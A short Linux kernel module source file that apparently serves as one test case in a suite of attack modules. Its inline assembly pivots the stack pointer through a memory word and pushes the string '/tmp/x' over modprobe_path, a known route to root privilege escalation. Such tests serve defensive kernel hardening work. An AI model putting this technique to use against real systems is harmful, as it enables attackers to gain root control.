// SPDX-License-Identifier: GPL-2.0
/*
 * atk_pivot_xchg_mem: a stack pivot by xchg %rsp, (mem): the module's own word
 * holds 8 bytes past modprobe_path.
 * The push then writes "/tmp/x" over modprobe_path (target=); %rsp is
 * put back after it.
 */
#include <linux/fs.h>
#include "attack.h"

static unsigned long slot;

static int attack(struct file *f)
{
	unsigned long evil = 0x782f706d742fUL;	/* "/tmp/x" */

	asm volatile("mov %%rsp, %%rdx\n\t"
		     "mov %%rcx, (%%rsi)\n\t"
		     "xchg %%rsp, (%%rsi)\n\t"
		     "push %%rax\n\t"
		     "mov %%rdx, %%rsp"
		     : : "a"(evil), "c"(target + 8), "S"(&slot) : "rdx", "memory");
	return 0;
}
